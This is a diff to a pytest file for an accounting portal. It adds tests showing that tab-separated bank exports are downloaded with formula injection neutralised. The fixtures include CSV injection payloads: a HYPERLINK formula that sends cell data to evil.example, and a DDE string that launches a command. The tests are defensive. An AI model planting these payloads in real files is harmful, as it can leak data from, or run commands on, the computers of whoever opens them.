@@ -20,7 +20,7 @@ from portal_support import ANA_USER, HUAMEI_USER, Books, add_users, books_of, bu
 from werkzeug.test import Client
 
 from beanfirm.core.csvcells import FORMULA_STARTS
-from beanfirm.portal.forward import is_csv
+from beanfirm.portal.forward import table_delimiter
 from beanfirm.portal.gateway import make_app
 from beanfirm.portal.pool import PoolPolicy
 from beanfirm.portal.site import Portal, PortalSettings
@@ -28,10 +28,12 @@ from beanfirm.portal.site import Portal, PortalSettings
 FOLDER = "documents/Equity/Opening-Balances"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 ATTACKS = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tlead tab")
+
+
 # A bank's export as a Chinese bank writes it: GBK, CRLF, a formula in its 摘要 column.
-def _csv_text(rows: list[list[str]], end: str) -> str:
+def _csv_text(rows: list[list[str]], end: str, delimiter: str = ",") -> str:
     buffer = io.StringIO(newline="")
-    csv.writer(buffer, lineterminator=end).writerows(rows)
+    csv.writer(buffer, lineterminator=end, delimiter=delimiter).writerows(rows)
     return buffer.getvalue()
 
 
@@ -43,6 +45,12 @@ EXPORT = _csv_text(
 UTF8_EXPORT = ("\ufeff" + _csv_text([["日期", "摘要"], ["2025-01-02", HYPERLINK]], "\n")).encode()
 PLAIN_EXPORT = b"date,amount\n2025-01-03,-12.50\n"
 UNREADABLE = "=1,x\r\n".encode("utf-16-le")  # UTF-16 without its byte order mark
+# The same export tab-separated, as some banks and Excel's "Text (Tab delimited)" save it.
+TSV_EXPORT = _csv_text(
+    [["交易日期", "摘要", "金额"]] + [["2025-01-02", cell, "-12.50"] for cell in ATTACKS[:4]],
+    "\r\n",
+    delimiter="\t",
+).encode("gbk")
 
 
 @pytest.fixture(scope="module")
@@ -54,6 +62,7 @@ def portal(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Portal]:
         ("2025-01-31.export-utf8.CSV", UTF8_EXPORT),
         ("2025-01-31.plain.csv", PLAIN_EXPORT),
         ("2025-01-31.utf16.csv", UNREADABLE),
+        ("2025-01-31.export.tsv", TSV_EXPORT),
     ):
         (folder / name).write_bytes(data)
     append_entry(
@@ -64,7 +73,9 @@ def portal(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Portal]:
     )
     commit_all(root, "A bank export with formulas, kept as documents")
     approve(root, "huamei")
-    site = Portal(root, PortalSettings(state_dir=root / ".beanfirm", pool=PoolPolicy(max_workers=2)))
+    site = Portal(
+        root, PortalSettings(state_dir=root / ".beanfirm", pool=PoolPolicy(max_workers=2))
+    )
     add_users(site)
     yield site
     site.close()
@@ -103,6 +114,20 @@ def test_a_bank_export_with_formulas_downloads_neutralised(reader: tuple[Client,
     assert "-12.50" in cells  # numbers stay numbers
     starts = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and cell != "-12.50"]
     assert starts == []
+
+
+def test_a_tab_separated_export_downloads_neutralised(reader: tuple[Client, Books]) -> None:
+    status, body = _document(reader, "2025-01-31.export.tsv")
+    assert status == 200
+    text = body.decode("gbk")
+    assert text.startswith(
+        "交易日期\t摘要\t金额\r\n"
+    )  # still tabs, the bank's encoding and line ends
+    cells = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter="\t") for c in row]
+    assert "-12.50" in cells  # a number stays a number
+    for attack in ATTACKS[:4]:
+        assert attack not in cells
+        assert "'" + attack in cells
 
 
 def test_a_utf8_export_keeps_its_byte_order_mark(reader: tuple[Client, Books]) -> None:
@@ -144,26 +169,34 @@ def test_favas_own_exports_are_refused_to_clients_and_staff(
 @pytest.mark.parametrize(
     ("headers", "rest", "query", "expected"),
     [
-        ([("Content-Type", "text/csv; charset=utf-8")], "/x/extension/A/b", "", True),
-        ([("Content-Type", "Application/CSV")], "/x/extension/A/b", "", True),
+        ([("Content-Type", "text/csv; charset=utf-8")], "/x/extension/A/b", "", ","),
+        ([("Content-Type", "Application/CSV")], "/x/extension/A/b", "", ","),
+        ([("Content-Type", "text/tab-separated-values")], "/x/extension/A/b", "", "\t"),
+        ([], "/x/document/", "filename=/books/documents/a.TSV", "\t"),
         (
-            [("Content-Type", "application/octet-stream"),
-             ("Content-Disposition", 'attachment; filename="rows.CSV"')],
-            "/x/extension/A/b", "", True,
+            [
+                ("Content-Type", "application/octet-stream"),
+                ("Content-Disposition", 'attachment; filename="rows.CSV"'),
+            ],
+            "/x/extension/A/b",
+            "",
+            ",",
         ),
         (
             [("Content-Disposition", "inline; filename*=UTF-8''%E5%AF%B9%E8%B4%A6.csv")],
-            "/x/extension/A/b", "", True,
+            "/x/extension/A/b",
+            "",
+            ",",
         ),
-        ([], "/x/document/", "filename=/books/documents/a.csv", True),
-        ([("Content-Type", "text/html")], "/x/journal/", "filter=a.csv", False),
-        ([("Content-Type", "application/pdf")], "/x/document/", "filename=/books/a.pdf", False),
+        ([], "/x/document/", "filename=/books/documents/a.csv", ","),
+        ([("Content-Type", "text/html")], "/x/journal/", "filter=a.csv", None),
+        ([("Content-Type", "application/pdf")], "/x/document/", "filename=/books/a.pdf", None),
     ],
 )
-def test_what_counts_as_csv(
-    headers: list[tuple[str, str]], rest: str, query: str, expected: bool
+def test_what_counts_as_csv_or_tsv(
+    headers: list[tuple[str, str]], rest: str, query: str, expected: str | None
 ) -> None:
-    assert is_csv(headers, rest, query) is expected
+    assert table_delimiter(headers, rest, query) == expected
 
 
 def test_the_narration_in_the_ledger_is_there_to_plant(portal: Portal) -> None:
